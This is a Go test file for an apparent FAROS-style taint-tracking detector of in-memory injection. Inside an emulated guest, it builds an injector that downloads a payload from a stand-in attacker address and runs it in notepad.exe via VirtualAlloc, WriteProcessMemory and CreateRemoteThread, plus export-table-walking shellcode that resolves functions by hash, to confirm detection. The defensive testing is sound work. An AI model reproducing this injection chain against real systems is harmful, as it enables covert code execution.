@@ -1,0 +1,668 @@
+package core
+
+import (
+	"strings"
+	"testing"
+
+	"faros/internal/guest"
+	"faros/internal/guest/gnet"
+	"faros/internal/isa"
+	"faros/internal/peimg"
+	"faros/internal/taint"
+)
+
+// install builds a program and installs it.
+func install(t *testing.T, k *guest.Kernel, b *peimg.Builder, path string) {
+	t.Helper()
+	raw, err := b.BuildBytes()
+	if err != nil {
+		t.Fatalf("build %s: %v", path, err)
+	}
+	k.FS.Install(path, raw)
+}
+
+func newKernelWithFAROS(t *testing.T, cfg Config) (*guest.Kernel, *FAROS) {
+	t.Helper()
+	k, err := guest.NewKernel()
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := Attach(k, cfg)
+	return k, f
+}
+
+// provOfUserRange unions the shadow over a process buffer.
+func provOfUserRange(f *FAROS, p *guest.Process, va uint32, n int) taint.ProvID {
+	return f.memGetRange(p.Space, va, n)
+}
+
+// oneShotEndpoint pushes a single payload on connect.
+type oneShotEndpoint struct{ payload []byte }
+
+func (e oneShotEndpoint) OnConnect(_ gnet.Flow) []gnet.Reply {
+	return []gnet.Reply{{DelayInstr: 300, Data: e.payload}}
+}
+func (e oneShotEndpoint) OnData(_ gnet.Flow, _ []byte) []gnet.Reply { return nil }
+
+// attacker address used across tests (the paper's testbed attacker).
+var attackerAddr = gnet.Addr{IP: "169.254.26.161", Port: 4444}
+
+// recvProgram connects to the attacker and receives n bytes into a static
+// buffer, then idles (so we can inspect its memory), then exits on a second
+// recv returning 0... it simply sleeps forever after receiving.
+func recvProgram(name string, n uint32) (*peimg.Builder, uint32) {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("ip").DataString(attackerAddr.IP)
+	bufVA := b.BSS(1024)
+	b.CallImport("Socket")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
+	b.Text.Movi(isa.EDX, uint32(attackerAddr.Port))
+	b.CallImport("Connect")
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, bufVA)
+	b.Text.Movi(isa.EDX, n)
+	b.CallImport("Recv")
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	return b, bufVA
+}
+
+func TestNetflowTaintReachesUserBuffer(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte("evil-bytes")})
+	b, bufVA := recvProgram("client.exe", 64)
+	install(t, k, b, "client.exe")
+	p, err := k.Spawn("client.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(1_000_000); err != nil {
+		t.Fatal(err)
+	}
+	id := provOfUserRange(f, p, bufVA, 10)
+	if id == 0 {
+		t.Fatal("received buffer untainted")
+	}
+	if !f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("no netflow tag: %s", f.T.Render(id))
+	}
+	if !f.T.Has(id, taint.TagProcess) {
+		t.Errorf("no process tag: %s", f.T.Render(id))
+	}
+	nfTag, _ := f.T.FirstOfType(id, taint.TagNetflow)
+	nf, _ := f.T.Netflow(nfTag.Index)
+	if nf.SrcIP != attackerAddr.IP || nf.SrcPort != attackerAddr.Port {
+		t.Errorf("netflow = %+v", nf)
+	}
+	if nf.DstIP != guest.DefaultLocalIP {
+		t.Errorf("netflow dst = %+v", nf)
+	}
+}
+
+func TestImageBytesCarryFileTag(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	b := peimg.NewBuilder("plain.exe")
+	b.Text.Label("spin").Movi(isa.EBX, 1000)
+	b.CallImport("Sleep")
+	b.Text.Jmp("spin")
+	install(t, k, b, "plain.exe")
+	p, err := k.Spawn("plain.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := provOfUserRange(f, p, guest.UserImageBase+peimg.TextOff, 8)
+	if !f.T.Has(id, taint.TagFile) {
+		t.Errorf("image text has no file tag: %s", f.T.Render(id))
+	}
+	if f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("spurious netflow tag: %s", f.T.Render(id))
+	}
+}
+
+// TestDirectFlowPropagation runs a guest program that copies and computes
+// over tainted bytes and verifies Table I semantics byte for byte.
+func TestDirectFlowPropagation(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte{0xAA, 0xBB, 0xCC, 0xDD}})
+
+	b := peimg.NewBuilder("flows.exe")
+	b.DataBlk.Label("ip").DataString(attackerAddr.IP)
+	src := b.BSS(16)  // receives tainted bytes
+	dst := b.BSS(16)  // copy target
+	comp := b.BSS(16) // computation target
+	del := b.BSS(16)  // after MOVI overwrite (deleted)
+
+	b.CallImport("Socket")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
+	b.Text.Movi(isa.EDX, uint32(attackerAddr.Port))
+	b.CallImport("Connect")
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, src)
+	b.Text.Movi(isa.EDX, 4)
+	b.CallImport("Recv")
+
+	// copy: dst[0] = src[0] (byte copy through a register)
+	b.Text.Movi(isa.EBX, src)
+	b.Text.Ldb(isa.EAX, isa.EBX, 0)
+	b.Text.Movi(isa.EBX, dst)
+	b.Text.Stb(isa.EBX, 0, isa.EAX)
+	// computation: comp[0] = src[1] + 1 (union keeps taint)
+	b.Text.Movi(isa.EBX, src)
+	b.Text.Ldb(isa.ECX, isa.EBX, 1)
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Movi(isa.EBX, comp)
+	b.Text.Stb(isa.EBX, 0, isa.ECX)
+	// delete: load tainted, overwrite with immediate, store
+	b.Text.Movi(isa.EBX, src)
+	b.Text.Ldb(isa.EDX, isa.EBX, 2)
+	b.Text.Movi(isa.EDX, 0x55) // MOVI deletes
+	b.Text.Movi(isa.EBX, del)
+	b.Text.Stb(isa.EBX, 0, isa.EDX)
+	// xor-delete: del[1] = src[3] ^ src[3] via same register
+	b.Text.Movi(isa.EBX, src)
+	b.Text.Ldb(isa.ESI, isa.EBX, 3)
+	b.Text.Xor(isa.ESI, isa.ESI)
+	b.Text.Movi(isa.EBX, del)
+	b.Text.Stb(isa.EBX, 1, isa.ESI)
+
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	install(t, k, b, "flows.exe")
+	p, err := k.Spawn("flows.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(2_000_000); err != nil {
+		t.Fatal(err)
+	}
+
+	if id := provOfUserRange(f, p, dst, 1); !f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("copy lost taint: %s", f.T.Render(id))
+	}
+	if id := provOfUserRange(f, p, comp, 1); !f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("computation lost taint: %s", f.T.Render(id))
+	}
+	if id := provOfUserRange(f, p, del, 1); f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("MOVI did not delete taint: %s", f.T.Render(id))
+	}
+	if id := provOfUserRange(f, p, del+1, 1); f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("XOR r,r did not delete taint: %s", f.T.Render(id))
+	}
+}
+
+// figure1Program embeds the paper's Figure 1: copy tainted input through an
+// identity lookup table (an address dependency).
+func figure1Program() (*peimg.Builder, uint32, uint32) {
+	b := peimg.NewBuilder("fig1.exe")
+	b.DataBlk.Label("ip").DataString(attackerAddr.IP)
+	table := b.BSS(256)
+	str1 := b.BSS(32)
+	str2 := b.BSS(32)
+
+	b.CallImport("Socket")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
+	b.Text.Movi(isa.EDX, uint32(attackerAddr.Port))
+	b.CallImport("Connect")
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, str1)
+	b.Text.Movi(isa.EDX, 14)
+	b.CallImport("Recv")
+
+	// Build identity table.
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EBX, table)
+	b.Text.Label("init")
+	b.Text.Cmpi(isa.ECX, 256)
+	b.Text.Jge("copy")
+	b.Text.StbIdx(isa.EBX, isa.ECX, isa.ECX)
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Jmp("init")
+	// str2[j] = table[str1[j]]
+	b.Text.Label("copy")
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Label("loop")
+	b.Text.Cmpi(isa.ECX, 14)
+	b.Text.Jge("done")
+	b.Text.Movi(isa.ESI, str1)
+	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
+	b.Text.Movi(isa.ESI, table)
+	b.Text.LdbIdx(isa.EDX, isa.ESI, isa.EAX) // address dependency
+	b.Text.Movi(isa.ESI, str2)
+	b.Text.StbIdx(isa.ESI, isa.ECX, isa.EDX)
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Jmp("loop")
+	b.Text.Label("done")
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	return b, str1, str2
+}
+
+func TestFigure1AddressDependencyDefaultUndertaints(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte("Tainted string")})
+	b, str1, str2 := figure1Program()
+	install(t, k, b, "fig1.exe")
+	p, err := k.Spawn("fig1.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(5_000_000); err != nil {
+		t.Fatal(err)
+	}
+	if id := provOfUserRange(f, p, str1, 14); !f.T.Has(id, taint.TagNetflow) {
+		t.Fatal("input not tainted; test is broken")
+	}
+	// The paper's default policy does not propagate address dependencies:
+	// str2 ends up untainted (undertainting, Section III).
+	if id := provOfUserRange(f, p, str2, 14); f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("address dependency propagated under default policy: %s", f.T.Render(id))
+	}
+}
+
+func TestFigure1AddressDependencyAblationOvertaints(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{PropagateAddrDeps: true})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte("Tainted string")})
+	b, _, str2 := figure1Program()
+	install(t, k, b, "fig1.exe")
+	p, err := k.Spawn("fig1.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(5_000_000); err != nil {
+		t.Fatal(err)
+	}
+	if id := provOfUserRange(f, p, str2, 14); !f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("address dependency not propagated with ablation on: %s", f.T.Render(id))
+	}
+}
+
+// exportWalkPayload builds position-independent shellcode that manually
+// walks the kernel export table (as reflective loaders do) to resolve
+// ExitProcess by hash, then calls it. Every LD it performs against the
+// table is an export-table-tagged read.
+func exportWalkPayload(hashToResolve uint32) []byte {
+	pb := isa.NewBlock()
+	pb.Movi(isa.ECX, guest.ExportTableBase)
+	pb.Ld(isa.EDX, isa.ECX, 0) // count (export-table read)
+	pb.Movi(isa.ESI, 0)
+	pb.Label("loop")
+	pb.Cmp(isa.ESI, isa.EDX)
+	pb.Jge("fail")
+	pb.Mov(isa.EAX, isa.ESI)
+	pb.Shli(isa.EAX, 3)
+	pb.Add(isa.EAX, isa.ECX)
+	pb.Ld(isa.EDI, isa.EAX, 4) // hash (export-table read)
+	pb.Movi(isa.EBP, hashToResolve)
+	pb.Cmp(isa.EDI, isa.EBP)
+	pb.Jz("found")
+	pb.Addi(isa.ESI, 1)
+	pb.Jmp("loop")
+	pb.Label("found")
+	pb.Ld(isa.EDI, isa.EAX, 8) // addr (export-table read)
+	pb.Movi(isa.EBX, 0)
+	pb.CallReg(isa.EDI)
+	pb.Label("fail")
+	pb.Movi(isa.EBX, 1)
+	pb.Movi(isa.EDI, guest.StubBase) // ExitProcess is stub 0
+	pb.CallReg(isa.EDI)
+	return pb.MustAssemble(0)
+}
+
+// injectorProgram receives a payload over the network and injects it into
+// victimName via OpenProcess + VirtualAlloc + WriteProcessMemory +
+// CreateRemoteThread.
+func injectorProgram(name, victimName string, payloadLen uint32) *peimg.Builder {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("ip").DataString(attackerAddr.IP)
+	b.DataBlk.Label("victim").DataString(victimName)
+	buf := b.BSS(2048)
+
+	b.CallImport("Socket")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
+	b.Text.Movi(isa.EDX, uint32(attackerAddr.Port))
+	b.CallImport("Connect")
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, buf)
+	b.Text.Movi(isa.EDX, payloadLen)
+	b.CallImport("Recv")
+
+	b.Text.Movi(isa.EBX, b.MustDataVA("victim"))
+	b.CallImport("FindProcessA")
+	b.Text.Mov(isa.EBX, isa.EAX)
+	b.CallImport("OpenProcess")
+	b.Text.Mov(isa.EBP, isa.EAX) // victim handle
+
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, payloadLen)
+	b.Text.Movi(isa.ESI, 7) // rwx
+	b.CallImport("VirtualAlloc")
+	b.Text.Push(isa.EAX) // remote base
+
+	b.Text.Mov(isa.ECX, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.EDX, buf)
+	b.Text.Movi(isa.ESI, payloadLen)
+	b.CallImport("WriteProcessMemory")
+
+	b.Text.Pop(isa.ECX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.CallImport("CreateRemoteThread")
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	return b
+}
+
+// idleVictim sleeps forever.
+func idleVictim(name string) *peimg.Builder {
+	b := peimg.NewBuilder(name)
+	b.Text.Label("spin")
+	b.Text.Movi(isa.EBX, 200)
+	b.CallImport("Sleep")
+	b.Text.Jmp("spin")
+	return b
+}
+
+func TestEndToEndInjectionFlagged(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	payload := exportWalkPayload(peimg.HashName("ExitProcess"))
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: payload})
+	install(t, k, injectorProgram("inject_client.exe", "notepad.exe", uint32(len(payload))), "inject_client.exe")
+	install(t, k, idleVictim("notepad.exe"), "notepad.exe")
+
+	if _, err := k.Spawn("notepad.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Spawn("inject_client.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(10_000_000); err != nil {
+		t.Fatal(err)
+	}
+
+	if !f.Flagged() {
+		t.Fatalf("injection not flagged; console=%v", k.Console)
+	}
+	fd := f.Findings()[0]
+	if fd.Rule != RuleNetflowExport {
+		t.Errorf("rule = %s", fd.Rule)
+	}
+	if fd.ProcName != "notepad.exe" {
+		t.Errorf("flagged in %s, want notepad.exe", fd.ProcName)
+	}
+	prov := f.T.Render(fd.InstrProv)
+	if !strings.Contains(prov, "NetFlow: {src ip,port: 169.254.26.161:4444") {
+		t.Errorf("provenance missing netflow origin: %s", prov)
+	}
+	if !strings.Contains(prov, "Process: inject_client.exe ->") || !strings.Contains(prov, "Process: notepad.exe") {
+		t.Errorf("provenance missing process chain: %s", prov)
+	}
+	// Chronological order: netflow before client before victim.
+	if strings.Index(prov, "NetFlow") > strings.Index(prov, "inject_client") ||
+		strings.Index(prov, "inject_client") > strings.Index(prov, "notepad") {
+		t.Errorf("provenance order wrong: %s", prov)
+	}
+	if !f.T.Has(fd.TargetProv, taint.TagExportTable) {
+		t.Errorf("target prov: %s", f.T.Render(fd.TargetProv))
+	}
+	// Report rendering sanity.
+	if !strings.Contains(f.Report(), "netflow-export") {
+		t.Error("report missing rule")
+	}
+	if !strings.Contains(f.TableII(), "0x") {
+		t.Error("Table II empty")
+	}
+}
+
+func TestBenignRuntimeResolutionNotFlagged(t *testing.T) {
+	// A benign program resolving an API at runtime through ntdll's
+	// GetProcAddress reads the export table — but through untainted ntdll
+	// instructions, so no confluence occurs.
+	k, f := newKernelWithFAROS(t, Config{})
+	b := peimg.NewBuilder("benign.exe")
+	b.DataBlk.Label("msg").DataString("benign runtime resolution")
+	b.Text.Movi(isa.EBX, peimg.HashName("DebugPrint"))
+	b.CallImport("GetProcAddress")
+	b.Text.Mov(isa.EBP, isa.EAX)
+	b.Text.Movi(isa.EBX, b.MustDataVA("msg"))
+	b.Text.CallReg(isa.EBP)
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	install(t, k, b, "benign.exe")
+	if _, err := k.Spawn("benign.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(2_000_000); err != nil {
+		t.Fatal(err)
+	}
+	if f.Flagged() {
+		t.Errorf("benign flagged: %s", f.Report())
+	}
+	if f.Stats().ExportReads == 0 {
+		t.Error("export table never read; negative control is vacuous")
+	}
+	if len(k.Console) != 1 {
+		t.Errorf("console = %v", k.Console)
+	}
+}
+
+func TestDownloaderWithoutInjectionNotFlagged(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte("just data, not code")})
+	b, _ := recvProgram("downloader.exe", 64)
+	install(t, k, b, "downloader.exe")
+	if _, err := k.Spawn("downloader.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(2_000_000); err != nil {
+		t.Fatal(err)
+	}
+	if f.Flagged() {
+		t.Errorf("downloader flagged: %s", f.Report())
+	}
+}
+
+func TestFileRoundTripPreservesProvenance(t *testing.T) {
+	// Figure 4 lifecycle: netflow → process 1 → file → process 2.
+	k, f := newKernelWithFAROS(t, Config{})
+	k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: []byte("wire-data")})
+
+	// Stage 1: download and save to disk.
+	saver := peimg.NewBuilder("saver.exe")
+	saver.DataBlk.Label("ip").DataString(attackerAddr.IP)
+	saver.DataBlk.Label("path").DataString("loot.bin")
+	sbuf := saver.BSS(64)
+	saver.CallImport("Socket")
+	saver.Text.Mov(isa.EBP, isa.EAX)
+	saver.Text.Mov(isa.EBX, isa.EBP)
+	saver.Text.Movi(isa.ECX, saver.MustDataVA("ip"))
+	saver.Text.Movi(isa.EDX, uint32(attackerAddr.Port))
+	saver.CallImport("Connect")
+	saver.Text.Mov(isa.EBX, isa.EBP)
+	saver.Text.Movi(isa.ECX, sbuf)
+	saver.Text.Movi(isa.EDX, 9)
+	saver.CallImport("Recv")
+	saver.Text.Movi(isa.EBX, saver.MustDataVA("path"))
+	saver.CallImport("CreateFileA")
+	saver.Text.Mov(isa.EBX, isa.EAX)
+	saver.Text.Movi(isa.ECX, sbuf)
+	saver.Text.Movi(isa.EDX, 9)
+	saver.CallImport("WriteFile")
+	saver.Text.Movi(isa.EBX, 0)
+	saver.CallImport("ExitProcess")
+	install(t, k, saver, "saver.exe")
+
+	// Stage 2: another process reads the file.
+	loader := peimg.NewBuilder("loader2.exe")
+	loader.DataBlk.Label("path").DataString("loot.bin")
+	lbuf := loader.BSS(64)
+	loader.Text.Movi(isa.EBX, loader.MustDataVA("path"))
+	loader.CallImport("OpenFileA")
+	loader.Text.Mov(isa.EBX, isa.EAX)
+	loader.Text.Movi(isa.ECX, lbuf)
+	loader.Text.Movi(isa.EDX, 9)
+	loader.CallImport("ReadFile")
+	loader.Text.Movi(isa.EBX, 0)
+	loader.CallImport("ExitProcess")
+	install(t, k, loader, "loader2.exe")
+
+	if _, err := k.Spawn("saver.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(2_000_000); err != nil {
+		t.Fatal(err)
+	}
+	p2, err := k.Spawn("loader2.exe", false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(4_000_000); err != nil {
+		t.Fatal(err)
+	}
+
+	id := provOfUserRange(f, p2, lbuf, 9)
+	r := f.T.Render(id)
+	if !f.T.Has(id, taint.TagNetflow) {
+		t.Errorf("netflow lost through file round trip: %s", r)
+	}
+	if !f.T.Has(id, taint.TagFile) {
+		t.Errorf("file tag missing: %s", r)
+	}
+	if got := len(f.T.DistinctProcesses(id)); got < 2 {
+		t.Errorf("process chain lost (distinct=%d): %s", got, r)
+	}
+	if !strings.Contains(r, "File: loot.bin") {
+		t.Errorf("file name missing: %s", r)
+	}
+}
+
+func TestForeignCodeRuleWithoutNetflow(t *testing.T) {
+	// A local-payload injection (no network source): the payload comes from
+	// the injector's own image. Only the foreign-code rule can catch it
+	// (Figure 10's hollowing provenance has no netflow tag).
+	k, f := newKernelWithFAROS(t, Config{})
+	payload := exportWalkPayload(peimg.HashName("ExitProcess"))
+
+	b := injectorLocalPayload("local_inject.exe", "svchost.exe", payload)
+	install(t, k, b, "local_inject.exe")
+	install(t, k, idleVictim("svchost.exe"), "svchost.exe")
+	if _, err := k.Spawn("svchost.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Spawn("local_inject.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(10_000_000); err != nil {
+		t.Fatal(err)
+	}
+	if !f.Flagged() {
+		t.Fatal("local injection not flagged")
+	}
+	fd := f.Findings()[0]
+	if fd.Rule != RuleForeignCodeExport {
+		t.Errorf("rule = %s", fd.Rule)
+	}
+	prov := f.T.Render(fd.InstrProv)
+	if strings.Contains(prov, "NetFlow") {
+		t.Errorf("unexpected netflow in local injection: %s", prov)
+	}
+	if !strings.Contains(prov, "local_inject.exe") || !strings.Contains(prov, "svchost.exe") {
+		t.Errorf("process chain missing: %s", prov)
+	}
+}
+
+// injectorLocalPayload embeds the payload in the injector's data section.
+func injectorLocalPayload(name, victimName string, payload []byte) *peimg.Builder {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("victim").DataString(victimName)
+	b.DataBlk.Label("payload").Data(payload)
+	n := uint32(len(payload))
+
+	b.Text.Movi(isa.EBX, b.MustDataVA("victim"))
+	b.CallImport("FindProcessA")
+	b.Text.Mov(isa.EBX, isa.EAX)
+	b.CallImport("OpenProcess")
+	b.Text.Mov(isa.EBP, isa.EAX)
+
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, n)
+	b.Text.Movi(isa.ESI, 7)
+	b.CallImport("VirtualAlloc")
+	b.Text.Push(isa.EAX)
+
+	b.Text.Mov(isa.ECX, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.EDX, b.MustDataVA("payload"))
+	b.Text.Movi(isa.ESI, n)
+	b.CallImport("WriteProcessMemory")
+
+	b.Text.Pop(isa.ECX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.CallImport("CreateRemoteThread")
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	return b
+}
+
+func TestAblationDisablingRulesSuppressesFindings(t *testing.T) {
+	run := func(cfg Config) *FAROS {
+		k, f := newKernelWithFAROS(t, cfg)
+		payload := exportWalkPayload(peimg.HashName("ExitProcess"))
+		k.Net.AddEndpoint(attackerAddr, oneShotEndpoint{payload: payload})
+		install(t, k, injectorProgram("inject_client.exe", "notepad.exe", uint32(len(payload))), "inject_client.exe")
+		install(t, k, idleVictim("notepad.exe"), "notepad.exe")
+		if _, err := k.Spawn("notepad.exe", false, 0); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := k.Spawn("inject_client.exe", false, 0); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := k.Run(10_000_000); err != nil {
+			t.Fatal(err)
+		}
+		return f
+	}
+	// Netflow rule disabled: the foreign-code rule still catches it.
+	f1 := run(Config{DisableNetflowRule: true})
+	if !f1.Flagged() || f1.Findings()[0].Rule != RuleForeignCodeExport {
+		t.Errorf("foreign-code fallback broken: %+v", f1.Findings())
+	}
+	// Both rules disabled: nothing flagged.
+	f2 := run(Config{DisableNetflowRule: true, DisableForeignCodeRule: true})
+	if f2.Flagged() {
+		t.Error("findings with all rules disabled")
+	}
+}
+
+func TestStatsPopulated(t *testing.T) {
+	k, f := newKernelWithFAROS(t, Config{})
+	b := peimg.NewBuilder("tiny.exe")
+	b.Text.Movi(isa.EBX, 0)
+	b.CallImport("ExitProcess")
+	install(t, k, b, "tiny.exe")
+	if _, err := k.Spawn("tiny.exe", false, 0); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := k.Run(100_000); err != nil {
+		t.Fatal(err)
+	}
+	st := f.Stats()
+	if st.Instructions == 0 || st.LoadsChecked == 0 {
+		t.Errorf("stats = %+v", st)
+	}
+	if st.Taint.TaintedBytes == 0 {
+		t.Error("no tainted bytes despite image load")
+	}
+	if !strings.Contains(f.Report(), "no in-memory injection") {
+		t.Error("clean report broken")
+	}
+}
